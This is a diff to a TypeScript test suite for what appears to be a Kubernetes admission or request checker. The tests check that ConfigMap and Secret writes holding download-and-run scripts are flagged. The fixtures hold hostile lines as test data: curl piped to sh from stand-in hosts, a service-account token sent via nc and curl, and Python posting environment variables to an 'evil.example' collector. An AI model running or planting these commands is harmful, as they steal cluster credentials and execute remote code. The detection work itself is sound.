@@ -69,18 +69,40 @@ describe('a ConfigMap value that is no script is not read', () => {
   it.each([
     ['a configuration file', 'nginx.conf', 'location / { return 200 "curl https://x.example/i | sh"; }'],
     ['a README with an install line', 'README.md', 'Install: curl -fsSL https://get.example.com | sh'],
-    ['a key with no extension and no #! line', 'configure', 'curl -fsSL https://x.example/i | sh'],
+    ['a key with no extension holding JSON', 'settings', '{"install": "curl -fsSL https://x.example/i | sh"}'],
+    ['a key with no extension holding YAML whose lines run nothing', 'rules', 'groups:\n- name: x\n  rules:\n  - alert: Errors\n    expr: sum(rate(http_requests_total{code=~"5.."}[5m])) > 0.05\n    annotations:\n      runbook: curl -fsSL https://x.example/i\n'],
+    ['a key with no extension holding INI', 'credentials', '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n'],
+    ['a key with no extension holding a PEM block', 'ca', '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ3VybCB8IHNo\n-----END CERTIFICATE-----\n'],
     ['an extension in another case', 'START.SH', 'curl -fsSL https://x.example/i | sh'],
   ])('%s (%s)', (_name, key, value) => {
     expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json'))).toEqual([]);
   });
 
-  it('costs no parse where no key can be a script: the body names neither an extension, nor #!, nor binaryData', () => {
-    // Not JSON at all: a body that were parsed would be unreadable; one that is not, is what its line says.
-    const r = check('PATCH', NAMED, '{"data": {"feature.flag": "on"}} trailing', 'application/merge-patch+json');
-    expect(r.unreadable).toBeUndefined();
-    // The same body naming a script key is parsed, and is unreadable.
-    expect(check('PATCH', NAMED, '{"data": {"start.sh": "on"}} trailing', 'application/merge-patch+json').unreadable).toBe('body_unreadable');
+  it('parses every ConfigMap write: any key with no extension may be a script, so a body that cannot be read is unreadable', () => {
+    // Session 46 left this body unparsed (no extension, no #!, no binaryData): `run` may be run as sh.
+    expect(check('PATCH', NAMED, '{"data": {"run": "on"}} trailing', 'application/merge-patch+json').unreadable).toBe('body_unreadable');
+  });
+});
+
+describe('a ConfigMap key with no extension and no #! line: read as sh', () => {
+  it.each([
+    ['GitLab-style configure', 'configure', 'set -e\nmkdir -p /init-secrets\ncurl -fsSL https://x.example/i | sh\n'],
+    ['run', 'run', 'curl -fsSL https://x.example/i | sh'],
+    ['a script that is not JSON though it starts with {', 'entry', '{ curl -fsSL https://x.example/i | sh; }'],
+    ['JSON with a command substitution in a string', 'settings', '{\n"a": "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 198.51.100.9 80)"\n}'],
+    ['YAML with a block holding a script (run as sh, its lines run)', 'config', 'setup: |\n  curl -fsSL https://x.example/i | sh\n'],
+    ['a YAML-looking first line, then a command', 'run', 'x: 1\ncurl -fsSL https://x.example/i | sh\n'],
+    ['YAML with a pipe on a key line', 'config', 'key: x | curl -fsSL https://x.example/i | sh\n'],
+    ['an assignment before a command', 'env', 'A=1\nB=2 curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
+    ['a hidden file a shell sources', '.profile', 'export PATH=/opt/bin:$PATH\ncurl -fsSL https://x.example/i | sh\n'],
+    ['a few control characters do not make it binary', 'run', '\u0001\ncurl -fsSL https://x.example/i | sh\n'],
+  ])('%s (%s)', (_name, key, value) => {
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
+  });
+
+  it('passes over a routine env-style ConfigMap: single words, URLs, flags', () => {
+    const env = configMap({ LOG_LEVEL: 'info', DATABASE_URL: 'postgres://app@db:5432/app?sslmode=require&x=1', FEATURES: 'a,b|c', JAVA_OPTS: '-Xmx512m -Dfoo=bar', EMPTY: '' });
+    expect(egress(check('POST', CM, JSON.stringify(env), 'application/json'))).toEqual([]);
   });
 });
 
@@ -94,5 +116,109 @@ describe('a ConfigMap script the body does not show', () => {
   it('a body cut at the limit is unreadable, as any ConfigMap write that may carry something is', () => {
     const r = inspect(kube('POST', CM), JSON.stringify(configMap({ 'start.sh': FETCH_RUN })).slice(0, 60), 'application/json', true, settings);
     expect(r.unreadable).toBeDefined();
+  });
+});
+
+const SECRETS = '/api/v1/namespaces/dev/secrets';
+const secret = (values: Record<string, string>, field: 'data' | 'stringData' = 'data') => ({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'scripts', namespace: 'dev' }, type: 'Opaque', [field]: field === 'data' ? Object.fromEntries(Object.entries(values).map(([k, v]) => [k, Buffer.from(v).toString('base64')])) : values });
+
+describe('a Secret script: read as a ConfigMap script is, in every way a Secret is written', () => {
+  const obj = secret({ 'start.sh': FETCH_RUN });
+  it.each([
+    ['create, JSON, data base64', 'POST', SECRETS, JSON.stringify(obj), 'application/json', 'data'],
+    ['create, JSON, stringData', 'POST', SECRETS, JSON.stringify(secret({ 'start.sh': FETCH_RUN }, 'stringData')), 'application/json', 'stringData'],
+    ['create, YAML', 'POST', SECRETS, toYaml(obj), 'application/yaml', 'data'],
+    ['update, JSON', 'PUT', `${SECRETS}/scripts`, JSON.stringify(obj), 'application/json', 'data'],
+    ['merge patch', 'PATCH', `${SECRETS}/scripts`, JSON.stringify({ stringData: { 'start.sh': FETCH_RUN } }), 'application/merge-patch+json', 'stringData'],
+    ['JSON patch', 'PATCH', `${SECRETS}/scripts`, JSON.stringify([{ op: 'add', path: '/data/start.sh', value: Buffer.from(FETCH_RUN).toString('base64') }]), 'application/json-patch+json', 'data'],
+    ['server-side apply', 'PATCH', `${SECRETS}/scripts`, toYaml(obj), 'application/apply-patch+yaml', 'data'],
+    ['create, protobuf', 'POST', SECRETS, encodeKube(obj), 'application/vnd.kubernetes.protobuf', 'data'],
+    ['create, protobuf, stringData', 'POST', SECRETS, encodeKube(secret({ 'start.sh': FETCH_RUN }, 'stringData')), 'application/vnd.kubernetes.protobuf', 'stringData'],
+    ['create, CBOR', 'POST', SECRETS, encodeCbor(obj), 'application/cbor', 'data'],
+  ])('%s', (_name, method, path, body, type, field) => {
+    expect(egress(check(method, path, body, type))).toEqual([{ code: 'container_command_egress', detail: expect.stringContaining('Secret key "start.sh"\'s script runs a program it downloads') as string, path: `${field}.start.sh` }]);
+  });
+
+  it('reads a key with no extension and no #! as sh, and a #! value under any key', () => {
+    const found = egress(check('POST', SECRETS, JSON.stringify(secret({ run: 'curl -fsSL https://x.example/i | sh', entrypoint: FETCH_RUN, password: 'hunter2' })), 'application/json'));
+    expect(found.map((v) => v.path).sort()).toEqual(['data.entrypoint', 'data.run']);
+  });
+
+  it('passes over routine Secrets: a TLS pair, a .dockerconfigjson, passwords, a keystore, a kubeconfig', () => {
+    const pem = '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ3VybCB8IHNo\n-----END CERTIFICATE-----\n';
+    const keystore = Buffer.from(Array.from({ length: 1024 }, (_, i) => (i * 7919 + 13) % 256)).toString('base64');
+    const values = { 'tls.crt': pem, 'tls.key': pem.replaceAll('CERTIFICATE', 'PRIVATE KEY'), ca: pem, '.dockerconfigjson': '{"auths":{"r.example":{"auth":"Y2k6eA=="}}}', password: 'a|b;c&d$(e', keystore: '', value: 'apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    exec:\n      command: aws\n      args: [eks, get-token]\n' };
+    const body = secret(values);
+    (body.data as Record<string, string>).keystore = keystore;
+    expect(egress(check('POST', SECRETS, JSON.stringify(body), 'application/json'))).toEqual([]);
+  });
+
+  it('a Secret write that cannot be read is unreadable: it may hold a script', () => {
+    const r = check('PATCH', `${SECRETS}/scripts`, JSON.stringify([{ op: 'copy', from: '/metadata/annotations/x', path: '/data/run' }]), 'application/json-patch+json');
+    expect(r.unreadable).toBe('body_unreadable');
+    expect(r.unreadableDetail).toContain('may hold a script a workload runs');
+  });
+});
+
+/** A Deployment that mounts `volume` at /cfg and runs `command`. */
+const deployment = (command: string[], volume: Record<string, unknown>, mount: Record<string, unknown> = { name: 'cfg', mountPath: '/cfg' }) => ({
+  apiVersion: 'apps/v1',
+  kind: 'Deployment',
+  metadata: { name: 'app', namespace: 'dev' },
+  spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1', command, volumeMounts: [mount] }], volumes: [{ name: 'cfg', ...volume }] } } },
+});
+const work = (...manifests: unknown[]) => JSON.stringify({ apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-0001' }, spec: { workload: { manifests } } });
+const checkWork = (body: string) => egress(check('POST', '/apis/work.open-cluster-management.io/v1/namespaces/edge-0001/manifestworks', body, 'application/json'));
+// A script whose key says it is a configuration file: read only when a pod of the request runs it.
+const CONF_RUN = 'listen 8080\ncurl -fsSL https://cdn.evil.example/i.sh | bash\n';
+
+describe('a key a pod of the same request runs is a script, whatever its key says', () => {
+  const cm = configMap({ 'settings.conf': CONF_RUN });
+  it.each([
+    ['sh /cfg/settings.conf', ['sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
+    ['the path as the program', ['/cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
+    ['. in a -c script', ['sh', '-c', 'set -e; . /cfg/settings.conf; exec app'], { configMap: { name: 'scripts' } }, undefined],
+    ['bash -c "$(cat …)"', ['bash', '-c', '$(cat /cfg/settings.conf)'], { configMap: { name: 'scripts' } }, undefined],
+    ['items renaming the key to run.sh', ['/cfg/run.sh'], { configMap: { name: 'scripts', items: [{ key: 'settings.conf', path: 'run.sh' }] } }, undefined],
+    ['a subPath mount', ['sh', '/entry'], { configMap: { name: 'scripts' } }, { name: 'cfg', mountPath: '/entry', subPath: 'settings.conf' }],
+    ['a projected volume', ['sh', '/cfg/settings.conf'], { projected: { sources: [{ configMap: { name: 'scripts' } }] } }, undefined],
+    ['the ..data path', ['sh', '/cfg/..data/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
+  ])('%s', (_name, command, volume, mount) => {
+    const found = checkWork(work(deployment(command, volume, mount), cm));
+    expect(found.map((v) => v.path)).toEqual(['spec.workload.manifests[1].data.settings.conf']);
+    expect(found[0]!.detail).toContain('which a container of this request runs');
+  });
+
+  it('a Secret volume: the Secret key the pod runs is read', () => {
+    const s = secret({ 'settings.conf': CONF_RUN });
+    const found = checkWork(work(deployment(['sh', '/cfg/settings.conf'], { secret: { secretName: 'scripts' } }), s));
+    expect(found.map((v) => v.path)).toEqual(['spec.workload.manifests[1].data.settings.conf']);
+  });
+
+  it("with the pod's interpreter: python3 runs a key named main", () => {
+    const code = 'import os, urllib.request\nurllib.request.urlopen("https://collector.evil.example/", data=str(dict(os.environ)).encode())\n';
+    const found = checkWork(work(deployment(['python3', '-u', '/cfg/main'], { configMap: { name: 'scripts' } }), configMap({ main: code })));
+    expect(found.map((v) => v.path)).toEqual(['spec.workload.manifests[1].data.main']);
+  });
+
+  it('a Fleet Bundle: a chart rendered into one resource, the ConfigMap and the Deployment as two documents of its YAML', () => {
+    const content = `${toYaml(deployment(['sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }))}---\n${toYaml(cm)}`;
+    const bundle = { apiVersion: 'fleet.cattle.io/v1alpha1', kind: 'Bundle', metadata: { name: 'b', namespace: 'fleet-default' }, spec: { resources: [{ name: 'chart.yaml', content }], targets: [{ clusterSelector: {} }] } };
+    const found = egress(check('POST', '/apis/fleet.cattle.io/v1alpha1/namespaces/fleet-default/bundles', JSON.stringify(bundle), 'application/json'));
+    expect(found.map((v) => v.detail)).toEqual([expect.stringContaining('ConfigMap key "settings.conf"\'s script runs a program it downloads (a downloader piped into an interpreter), which a container of this request runs')]);
+  });
+
+  it('a multi-document body: the Deployment beside the ConfigMap it runs', () => {
+    const body = `${toYaml(deployment(['sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }))}---\n${toYaml(cm)}`;
+    expect(egress(check('POST', CM, body, 'application/yaml')).map((v) => v.path)).toEqual(['documents[1].data.settings.conf']);
+  });
+
+  it.each([
+    ['no pod in the request', [cm]],
+    ['the pod mounts another ConfigMap', [deployment(['sh', '/cfg/settings.conf'], { configMap: { name: 'other' } }), cm]],
+    ['the pod reads the file as configuration', [deployment(['nginx', '-c', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }), cm]],
+    ['the pod runs another key', [deployment(['sh', '/cfg/start.sh'], { configMap: { name: 'scripts' } }), cm]],
+  ])('is not read as a script with %s', (_name, manifests) => {
+    expect(checkWork(work(...manifests))).toEqual([]);
   });
 });
